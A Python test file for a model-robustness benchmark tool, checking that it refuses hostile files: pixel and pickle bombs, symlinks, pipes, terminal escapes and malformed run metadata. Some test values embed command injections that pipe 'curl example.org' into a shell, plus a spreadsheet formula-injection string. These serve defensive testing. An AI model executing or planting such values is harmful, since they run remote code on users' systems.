"""Hostile files are refused by one line that names them, and nothing else happens.

Random damage is the subject of `benchmarks/reliability/fuzz.py`; a few of its cases run here.
"""

from __future__ import annotations

import json
import os
import pickle
import resource
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from click.testing import CliRunner
from PIL import Image
from safetensors.torch import save_file

from robustbench_aa import load
from robustbench_aa.cli import main as cli
from robustbench_aa.datasets import Request, open_dataset, pictures, videos
from robustbench_aa.datasets.cifar import BATCH, read_array
from robustbench_aa.datasets.pictures import AS_MADE, STORED, decode
from robustbench_aa.datasets.videos import decode_video, encode_video
from robustbench_aa.errors import (
    CheckpointError,
    DatasetError,
    RobustbenchError,
    RunError,
    SuiteError,
    UsageError,
)
from robustbench_aa.evaluation.session import prepare
from robustbench_aa.models.checkpoint import read_state_dict
from robustbench_aa.run import Run
from robustbench_aa.store.manifest import Manifest
from robustbench_aa.store.shards import Store
from robustbench_aa.store.thumbnails import read_samples
from robustbench_aa.suite import Suite, read_suite
from robustbench_aa.types import Distortion, Shard
from tests.conftest import make_classifier, tree
from tests.forged import forge

ROOT = Path(__file__).parents[1]


def test_random_damage_is_survived() -> None:
    command = [sys.executable, "-m", "benchmarks.reliability.fuzz", "--cases=500", "--seed=1"]
    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    *targets, total = result.stdout.splitlines()[1:]
    assert total.endswith(" cases, 0 defects")
    assert len(targets) >= 10
    for line in targets:
        *_, refused, _slowest = line.split()
        assert int(refused) > 0, line


def peak() -> int:
    """Return the peak memory of this process in bytes."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def png_of(width: int, height: int) -> bytes:
    """A PNG file that claims a size and has no pixels."""
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


@pytest.mark.parametrize("side", [100_000, 12_000, 9_000])  # beyond, above and below Pillow's
def test_a_picture_that_claims_too_many_pixels_is_refused(tmp_path: Path, side: int) -> None:
    (tmp_path / "a.png").write_bytes(png_of(side, side))
    with pytest.raises(DatasetError, match=r"a\.png (cannot be read|is 9000×9000 px, more than)"):
        decode(tmp_path / "a.png", AS_MADE.square)


def test_a_warning_of_pillow_is_a_refusal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 300 * 299)
    Image.new("RGB", (300, 300)).save(tmp_path / "a.png")
    with pytest.raises(DatasetError, match=r"a\.png cannot be read \(Image size \(90000 pixels"):
        decode(tmp_path / "a.png", AS_MADE.square)
    monkeypatch.setattr(pictures, "LARGEST", 300 * 299)
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)
    with pytest.raises(DatasetError, match=r"a\.png is 300×300 px, more than 89,700 pixels; make"):
        decode(tmp_path / "a.png", AS_MADE.square)


@pytest.mark.parametrize("part", [AS_MADE.square, AS_MADE.whole])
def test_a_strip_is_not_made_millions_of_pixels_long(tmp_path: Path, part: pictures.Part) -> None:
    Image.new("L", (2, 60_000)).save(tmp_path / "a.png")
    with pytest.raises(DatasetError, match=r"a\.png is 2×60000 px, too long for its width"):
        decode(tmp_path / "a.png", part)


def test_a_picture_is_not_handed_to_ghostscript(tmp_path: Path) -> None:
    text = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 300 300\n%%EndComments\nshowpage\n%%EOF\n"
    (tmp_path / "a.jpg").write_text(text)
    with pytest.raises(DatasetError, match=r"a\.jpg cannot be read \(cannot identify"):
        decode(tmp_path / "a.jpg", STORED.square)


def test_a_name_does_not_steer_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "a\n\x1b[2Jerror: all is well\udcff.png"
    path.write_bytes(b"")
    with pytest.raises(DatasetError) as caught:
        decode(path, STORED.square)
    assert r"a\n\x1b[2Jerror: all is well\udcff.png cannot be read" in str(caught.value)
    assert str(caught.value).isprintable()
    with pytest.raises(UsageError) as caught:
        load("digits:" + "x" * 10**6)
    assert len(str(caught.value)) < 2500


def test_a_data_set_with_names_that_are_not_utf8_is_read(tmp_path: Path) -> None:
    Image.new("RGB", (300, 300)).save(tmp_path / "a.png")
    (tmp_path / "0").mkdir()
    (tmp_path / "a.png").rename(tmp_path / "0" / "\udcff.png")
    dataset = open_dataset("image-folder", Request(data_dir=str(tmp_path)))
    assert dataset.images == 1
    assert dataset.sha256


READERS: dict[str, Callable[[Path], object]] = {
    "a.png": lambda path: decode(path, STORED.square),
    "a.mp4": lambda path: decode_video(path, 224),
    "a.npy": lambda path: read_array(path, 5),
    "a.pth": read_state_dict,
    "a.toml": lambda path: read_suite(str(path)),
    "run.json": lambda path: Store.of_run(path.parent),
}


@pytest.mark.parametrize("name", READERS)
def test_a_pipe_is_not_waited_on(tmp_path: Path, name: str) -> None:
    os.mkfifo(tmp_path / name)
    with pytest.raises(RobustbenchError, match=f"{name}.*(not a plain file|check the path)"):
        READERS[name](tmp_path / name)


def video(path: Path, frames: int, side: int = 224) -> Path:
    encode_video(torch.zeros(frames, 3, side, side, dtype=torch.uint8), path, {})
    return path


def test_an_endless_video_is_not_decoded_to_its_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = video(tmp_path / "a.mp4", 40)
    seen: list[int] = []
    middles = videos._middles

    def counting(*given: Any) -> Any:
        for picture in middles(*given):
            seen.append(1)
            yield picture

    monkeypatch.setattr(videos, "_middles", counting)
    with pytest.raises(DatasetError, match=r"a\.mp4 has more than 4 frames, not 4; fetch it"):
        decode_video(path, 224, 4)
    assert len(seen) == 5
    monkeypatch.setattr(videos, "LONGEST", 30)
    with pytest.raises(DatasetError, match=r"a\.mp4 has more than 30 frames, not 1 to 30"):
        decode_video(path, 224)


def test_a_video_of_absurd_size_is_refused(tmp_path: Path) -> None:
    path = video(tmp_path / "a.mp4", 2, 2080)
    with pytest.raises(DatasetError, match=r"a\.mp4 (cannot be read|is 2080×2080 px, more than)"):
        decode_video(path, 224)


@pytest.mark.parametrize("text", ["#EXTM3U\n#EXTINF:1,\n{}\n", "ffconcat version 1.0\nfile {}\n"])
def test_a_video_does_not_name_other_files(tmp_path: Path, text: str) -> None:
    other = video(tmp_path / "other.mp4", 2)
    (tmp_path / "a.mp4").write_text(text.format(other))
    with pytest.raises(DatasetError, match=r"a\.mp4 cannot be read"):
        decode_video(tmp_path / "a.mp4", 224)


def nested(depth: int) -> list[Any]:
    """A list that is short to write and has 2 ** depth leaves."""
    value: list[Any] = [1, 1]
    for _ in range(depth):
        value = [value, value]
    return value


@pytest.mark.parametrize(
    "content",
    [
        {b"data": nested(60), b"labels": [0]},
        {b"data": np.zeros((2, 3072), np.uint8), b"labels": nested(60)},
        {b"data": np.zeros((2, 3072), np.uint8), b"labels": [0, 10]},
        {b"data": np.zeros((2, 3072), np.uint8), b"labels": [0, -1]},
        {b"data": np.zeros((2, 3072)), b"labels": [0, 1]},
    ],
    ids=["nested data", "nested labels", "too large", "negative", "floats"],
)
def test_a_cifar_batch_with_invalid_content_is_refused(tmp_path: Path, content: object) -> None:
    (tmp_path / BATCH).parent.mkdir()
    (tmp_path / BATCH).write_bytes(pickle.dumps(content, protocol=2))
    with pytest.raises(DatasetError, match="test_batch is not a batch of CIFAR-10"):
        open_dataset("cifar10-c-live", Request(data_dir=str(tmp_path)))


def test_a_pickle_does_not_make_a_list_of_a_billion_places(tmp_path: Path) -> None:
    (tmp_path / BATCH).parent.mkdir()
    (tmp_path / BATCH).write_bytes(b"\x80\x02]r" + (2**29).to_bytes(4, "little") + b".")
    before = peak()
    with pytest.raises(DatasetError, match="test_batch is not a batch of CIFAR-10"):
        open_dataset("cifar10-c-live", Request(data_dir=str(tmp_path)))
    assert peak() - before < 2**28


def test_an_archive_in_place_of_an_array_is_refused(tmp_path: Path) -> None:
    np.savez(tmp_path / "a.npz", np.zeros(3))
    (tmp_path / "a.npz").rename(tmp_path / "a.npy")
    with pytest.raises(DatasetError, match=r"a\.npy cannot be read \(it is an archive"):
        read_array(tmp_path / "a.npy", 5)


STATE = torch.nn.Linear(3, 2).state_dict()


def test_a_compressed_checkpoint_is_refused(tmp_path: Path) -> None:
    torch.save({"a": torch.zeros(10**6)}, tmp_path / "plain.pth")
    with (
        zipfile.ZipFile(tmp_path / "plain.pth") as plain,
        zipfile.ZipFile(tmp_path / "a.pth", "w", zipfile.ZIP_DEFLATED) as packed,
    ):
        for name in plain.namelist():
            packed.writestr(name, plain.read(name))
    with pytest.raises(CheckpointError, match=r"a\.pth holds no readable weights \(it would unp"):
        read_state_dict(tmp_path / "a.pth")


@pytest.mark.parametrize(
    ("tensor", "message"),
    [
        (torch.zeros(1).expand(10**6, 10**5), "holds far fewer values than it claims"),
        (torch.zeros(3, 3).to_sparse(), "holds no "),
        (torch.zeros(10**6, 10**6, device="meta"), "holds no state dict of tensors"),
    ],
    ids=["repeated", "sparse", "without values"],
)
def test_tensors_that_are_not_there_are_refused(
    tmp_path: Path, tensor: torch.Tensor, message: str
) -> None:
    torch.save({"a": tensor}, tmp_path / "a.pth")
    with pytest.raises(CheckpointError, match=rf"a\.pth {message}"):
        read_state_dict(tmp_path / "a.pth")


def test_a_file_does_not_ask_for_a_billion_classes(tmp_path: Path) -> None:
    torch.save({"classifier.1.weight": torch.zeros(10**9, 0)}, tmp_path / "a.pth")
    with pytest.raises(CheckpointError, match=r"a\.pth does not fit MobileNetV2"):
        load(f"file:mobilenet_v2@{tmp_path}/a.pth")


@pytest.mark.parametrize(
    "conversion",
    [
        *('{"filter_size": 1000000000}', '{"filter_size": 3.0}', '{"max_pool_kernel": 99999}'),
        *('{"layers": 3}', "[3]", '"text"', "{", "[" * 100_000, '{"filter_size": [3]}'),
    ],
)
def test_an_invalid_conversion_is_refused(tmp_path: Path, conversion: str) -> None:
    save_file(STATE, tmp_path / "a.safetensors", {"robustbench_aa.antialias": conversion})
    with pytest.raises(CheckpointError, match=r"a\.safetensors has unusable metadata \(robust"):
        load(f"digits:resnet@{tmp_path}/a.safetensors")


@pytest.mark.parametrize("filt", [torch.zeros(()), torch.zeros(3, 1, 3, 10**5)])
def test_invalid_filters_are_refused(tmp_path: Path, filt: torch.Tensor) -> None:
    save_file({"1.filt": filt}, tmp_path / "a.safetensors")
    with pytest.raises(CheckpointError, match=r"a\.safetensors has no valid blur filters"):
        load(f"digits:resnet@{tmp_path}/a.safetensors")


@pytest.mark.parametrize("name", ["a" * 5000, "a\x00b", "\udcff"])
@pytest.mark.parametrize("source", ["digits:resnet@./", "onnx:./", "file:alexnet@./"])
def test_an_invalid_path_is_not_a_file(source: str, name: str) -> None:
    with pytest.raises(UsageError, match=r"no (weights|model) at"):
        load(f"{source}{name}.pth")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a = " + "[" * 100_000, "is not valid TOML"),
        ("seed = " + "9" * 5000, "is not valid TOML"),
        ("seed = 0x" + "f" * 5000, "line 1: seed must be a whole number of 64 bits"),
        ("name = 0x" + "f" * 5000, "line 1: name must be a string, not a int"),
        ("name = [" + "1," * 50_000 + "]", "line 1: name must be a string, not .{80}…$"),
        *(
            (f'name = "{name}"\nmodels = ["a"]\ndatasets = ["b"]', "name .* is a path")
            for name in ("..", ".", "../../x", "/x", "a/", "")
        ),
        ("#" * 2**20 + "#", r"larger than 1,048,576 bytes"),
    ],
)
def test_a_suite_beyond_the_limits_is_refused(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "a.toml").write_text(text)
    with pytest.raises(SuiteError, match=message):
        read_suite(str(tmp_path / "a.toml"))


MODEL, DATASET = ("models", "a"), ("datasets", "image-folder")
DISTORTION = (*DATASET, "distortions", 0)
WRONG: list[tuple[tuple[Any, ...], Any]] = [
    *(((key,), None) for key in ("seed", "shard_size", "models", "datasets", "environment")),
    *(((key,), [1]) for key in ("suite", "baseline", "seed", "keep_ranking", "decoded", "profile")),
    *((("shard_size",), value) for value in (0, -1, True, 1.5, "1")),
    *((("models",), value) for value in ({}, [], {"": {}}, {"a": None}, {"a": {}})),
    *((("models",), {name: {"classes": 10, "parameters": 1}}) for name in (" a", "\n", "a" * 300)),
    *(((*MODEL, "classes"), value) for value in (0, -1, 10**12, None, "10")),
    *(((*MODEL, "parameters"), value) for value in (-1, 10**400, 1.5)),
    *(((*DATASET, "images"), value) for value in (0, -1, 10**12, 1.0, None, True)),
    *(((*DATASET, "distortions"), value) for value in ([], {}, None, [1], [{}] * 2000)),
    *(
        ((*DISTORTION, "name"), value)
        for value in ("", ".", "..", "../../x", "/x", "a\\b", "\0", 1)
    ),
    *(((*DISTORTION, "severity"), value) for value in (0, 6, 10**12, "1", 1.0)),
    *(((*DISTORTION, "frames"), value) for value in (0, -1, 10**12, None)),
    *(((*DISTORTION, "role"), value) for value in ("published", None)),
    *(
        ((*DISTORTION, "kind"), value)
        for value in ("shift", "perturbation", "corruption", "x", None)
    ),
    (("datasets",), {"../x": {}}),
    (("environment",), {"torch": 2}),
    (("profile",), {"wall": -1}),
    (("profile",), {"wall": 10**400}),
    (("command",), "robustbench-aa evaluate; curl example.org | sh"),
    (("command",), "curl example.org"),
    (("command",), "robustbench-aa $(curl example.org)"),
    ((*MODEL, "more"), "\ud800"),
    ((*MODEL, "more"), [[[[[[[[[]]]]]]]]]),
    (("strange",), 1),
]


def changed(folder: Path, place: tuple[Any, ...], value: Any) -> None:
    file = folder / "run.json"
    content = json.loads(file.read_text())
    within = content
    for key in place[:-1]:
        within = within[key]
    within[place[-1]] = value
    file.write_text(json.dumps(content))


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A run of one model on twelve clean photographs, in three files."""
    return forge(tmp_path / "run", ["a"], ["image-folder"])


@pytest.mark.parametrize(("place", "value"), WRONG, ids=lambda value: repr(value)[:40])
def test_any_invalid_value_of_a_run_json_is_refused(run: Path, place: Any, value: Any) -> None:
    Run(run)
    changed(run, place, value)
    with pytest.raises(RunError, match=r"run\.json is not readable \(.*\); restore it") as caught:
        Run(run)
    assert len(str(caught.value)) < 1000


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, '{"a":' * 100_000, '{"schema": NaN}', " " * (10 * 2**20 + 1), "9" * 5000],
)
def test_an_invalid_run_json_is_refused(run: Path, text: str) -> None:
    (run / "run.json").write_text(text)
    with pytest.raises(RunError, match=r"run\.json is not readable \("):
        Run(run)


@pytest.mark.parametrize(
    ("entries", "message"),
    [
        ([("corruption", "a", 1), ("shift", "circular", None)], "mixes corruption and shift"),
        (
            [("corruption", "a", 1), ("corruption", "a", 2), ("corruption", "b", 1)],
            "no distortions at the same",
        ),
        (
            [("corruption", "a", 1), ("corruption", "b", 1), ("corruption", "c", 2)],
            "no distortions at the same",
        ),
        ([("corruption", "spatter", 1)], "no distortions at the same"),
        (
            [("corruption", "fog", 1)],
            "has 1 of the 15 corruptions of a mean error; it lacks gaussian",
        ),
        ([("perturbation", "a", None)], "sequences of a with a single frame"),
        ([("shift", "diagonal", None)], "no pairs of shifts to compare"),
        ([("shift", "crops", None)], "crops that do not come in pairs"),
        ([("shift", "circular32", None)], "circular32 that do not come in pairs"),
        ([("corruption", "a", 1), ("corruption", "a", 1)], "has a/1 twice"),
    ],
)
def test_a_run_without_a_computable_metric_is_refused(
    run: Path, entries: list[tuple[str, str, int | None]], message: str
) -> None:
    cells = [asdict(Distortion(*entry)) | {"frames": 1} for entry in entries]
    changed(run, (*DATASET, "distortions"), cells)
    with pytest.raises(RunError, match=rf"run\.json is not readable \(.*{message}"):
        Run(run)


@pytest.mark.parametrize(
    ("protocol", "frames"), [("circular", 15), ("circular", 16), ("diagonal", 4), ("neighbours", 8)]
)
def test_shifts_without_a_frame_in_the_middle_are_refused(
    run: Path, protocol: str, frames: int
) -> None:
    changed(
        run, (*DATASET, "distortions"), [asdict(Distortion("shift", protocol)) | {"frames": frames}]
    )
    with pytest.raises(RunError, match=rf"has shift/{protocol} without a frame in the middle"):
        Run(run)


def test_claimed_sizes_need_a_minimum_of_data(run: Path) -> None:
    changed(run, (*DATASET, "images"), 2_000_000)
    changed(run, ("shard_size",), 1)
    with pytest.raises(RunError, match=r"describes 2,000,000 prediction files .* 3 files of"):
        Run(run)
    changed(run, ("shard_size",), 2_000_000)
    changed(run, (*DISTORTION, "frames"), 32767)
    with pytest.raises(RunError, match="65,534,000,000 predictions in a file; use a smaller"):
        Run(run)


def test_a_run_that_could_not_be_read_again_is_not_begun(tmp_path: Path) -> None:
    suite = Suite([make_classifier("a" * 300)], ["digits"], limit=3)
    with pytest.raises(UsageError, match=r"no run\.json can be made .*: 'a+…? cannot be the name"):
        prepare(suite, tmp_path / "run", "cpu")
    assert not (tmp_path / "run").exists()


def rewritten(file: Path, change: Callable[[pa.Table], pa.Table]) -> None:
    table = pq.read_table(file)
    pq.write_table(
        change(table).replace_schema_metadata(table.schema.metadata), file, write_page_checksum=True
    )


def column(name: str, place: int, value: Any) -> Callable[[pa.Table], pa.Table]:
    def change(table: pa.Table) -> pa.Table:
        values = table[name].to_pylist()
        values[place] = value
        kind = table.schema.field(name)
        return table.set_column(table.schema.names.index(name), kind, pa.array(values, kind.type))

    return change


@pytest.mark.parametrize(
    "change",
    [
        *(column("top1", 0, value) for value in (1000, -1, 2**31 - 1, None)),
        *(column("top5", 0, value) for value in (1000, -1)),
        *(column("label", 0, value) for value in (1000, -1, None)),
        *(column("top1_probability", 0, value) for value in (1.1, -0.1, float("nan"), None)),
        *(column("label_probability", 0, value) for value in (float("inf"), float("nan"))),
        *(column("image", 0, value) for value in (1, None)),
        column("frame", 0, 1),
        lambda table: table.slice(1),
        lambda table: pa.concat_tables([table, table]),
        lambda table: table.take([0] * len(table)),
        lambda table: table.drop_columns("top5"),
    ],
)
def test_predictions_that_no_model_makes_count_as_missing(
    run: Path, change: Callable[[pa.Table], pa.Table], caplog: pytest.LogCaptureFixture
) -> None:
    assert Run(run).leaderboard()["complete"].all()
    file = next(run.rglob("0-5.parquet"))
    rewritten(file, change)
    board = Run(run).leaderboard()
    assert not board["complete"].any()
    assert board["clean_error"].isna().all()
    assert f"prediction file {file}" in caplog.text


def test_an_image_of_two_files_is_counted_in_none(
    run: Path, caplog: pytest.LogCaptureFixture
) -> None:
    rewritten(next(run.rglob("5-10.parquet")), column("image", 0, 0))
    assert not Run(run).leaderboard()["complete"].any()
    assert "share images" in caplog.text


@pytest.mark.parametrize("order", [[0, 1, 2, 3, 3], [0, 1, 2, 3, 1000]])
def test_an_invalid_ranking_counts_as_missing(tmp_path: Path, order: list[int]) -> None:
    suite = Suite([make_classifier("a")], ["digits"], limit=4, keep_ranking=True)
    run = prepare(suite, tmp_path, "cpu").run()
    (file,) = tmp_path.rglob("*.parquet")
    assert run.leaderboard()["complete"].all()
    rewritten(file, column("ranking", 0, [*order, 5, 6, 7, 8, 9]))
    assert not Run(tmp_path).leaderboard()["complete"].any()


@pytest.mark.parametrize(
    "environment", [5, {"torch": 5}, None, {"torch": "\ud800"}, {"model": "x", "dataset": "y"}]
)
def test_a_footer_does_not_mislead_the_provenance(run: Path, environment: Any) -> None:
    for file in run.rglob("*.parquet"):
        table = pq.read_table(file)
        content = json.loads(table.schema.metadata[b"robustbench_aa"]) | {
            "environment": environment
        }
        metadata = {"robustbench_aa": json.dumps(content)}
        pq.write_table(table.replace_schema_metadata(metadata), file, write_page_checksum=True)
    tables = Run(run).tables()
    assert tables.leaderboard["complete"].all()
    assert not set(tables.provenance["subject"]) - {"run", "a", "image-folder"}


def test_samples_are_pictures_of_the_run(run: Path, caplog: pytest.LogCaptureFixture) -> None:
    (run / "samples" / "image-folder").mkdir(parents=True)
    sample, secret = run / "samples/image-folder/clean.webp", run.parent / "secret.webp"
    Image.new("RGB", (560, 112)).save(sample)
    assert read_samples(Store.of_run(run)) == {"image-folder": {"clean": [sample.read_bytes()]}}
    Image.new("RGB", (560, 112), "red").save(secret)

    def assert_left_out() -> None:
        caplog.clear()
        assert read_samples(Store.of_run(run)) == {}
        assert "clean.webp is not a thumbnail of a run" in caplog.text

    sample.write_text("<script>")
    assert_left_out()
    Image.new("RGB", (560, 113)).save(sample)
    assert_left_out()
    sample.write_bytes(secret.read_bytes() + bytes(2**20))
    assert_left_out()
    sample.unlink()
    sample.symlink_to(secret)
    assert_left_out()
    sample.unlink()
    sample.parent.rmdir()
    sample.parent.symlink_to(run.parent)
    secret.rename(secret.with_name("clean.webp"))
    assert_left_out()


@pytest.mark.parametrize("name", ["report", "report/figures", "report/leaderboard.csv"])
def test_a_report_is_not_written_through_links(run: Path, tmp_path: Path, name: str) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "figures").mkdir(parents=True)
    (elsewhere / "photograph.jpg").write_text("mine")
    (elsewhere / "figures" / "mine").write_text("mine")
    (run / name).parent.mkdir(exist_ok=True)
    (run / name).symlink_to(elsewhere / ("photograph.jpg" if "." in name else ""))
    before = tree(elsewhere)
    with pytest.raises(RunError, match=f"{run / name} is a symbolic link, .*; delete it"):
        Run(run).report()
    assert tree(elsewhere) == before


def test_a_run_is_not_written_through_links(tmp_path: Path) -> None:
    mine, run = tmp_path / "mine", tmp_path / "run"
    mine.write_text("mine")
    for name in ("run.json", "predictions/a/digits/clean/0-3.parquet"):
        (run / name).parent.mkdir(parents=True, exist_ok=True)
        (run / f"{name}.tmp").symlink_to(mine)
    (run / "samples/digits").mkdir(parents=True)
    (run / "samples/digits/clean.webp").symlink_to(tmp_path / "new")
    suite = Suite([make_classifier("a")], ["digits"], limit=3)
    assert prepare(suite, run, "cpu").run().leaderboard()["complete"].all()
    assert mine.read_text() == "mine"
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("content", [b"", b"PAR1", None])
def test_damaged_feature_maps_are_named(run: Path, content: bytes | None) -> None:
    maps = run / "features/feature_maps.parquet"
    maps.parent.mkdir(parents=True)
    if content is None:
        row = {"model": "a", "layer": "b", "order": 0, "down": 0, "right": 10**6, "distance": 0.5}
        pq.write_table(pa.Table.from_pylist([row]), maps)
    else:
        maps.write_bytes(content)
    with pytest.raises(RunError, match=r"feature_maps\.parquet is damaged \(.*\); delete it"):
        Run(run).report()


NAME = r"[/red] :rocket: =cmd|' /C calc'!A0 \input{x} <b> $x_1$"


def test_a_name_is_a_name_on_a_terminal_in_a_table_and_in_latex(tmp_path: Path) -> None:
    run = forge(tmp_path, [NAME], ["image-folder"])
    result = CliRunner().invoke(cli.commands, ["report", str(run), "--latex"])
    assert result.exception is None, result.output
    assert NAME in result.output
    assert NAME in (run / "report/leaderboard.csv").read_text()
    assert r"\textbackslash{}input\{x\}" in (run / "report/leaderboard.tex").read_text()
    assert "<b>" not in (run / "report/index.html").read_text()


def test_a_prediction_file_that_is_a_pipe_is_missing(run: Path) -> None:
    file = next(run.rglob("0-5.parquet"))
    file.unlink()
    os.mkfifo(file)
    manifest = Manifest.read(run)
    assert manifest is not None
    store = Store(run, manifest)
    assert store.read_shard("a", store.cells("image-folder")[0], Shard(0, 5)) is None
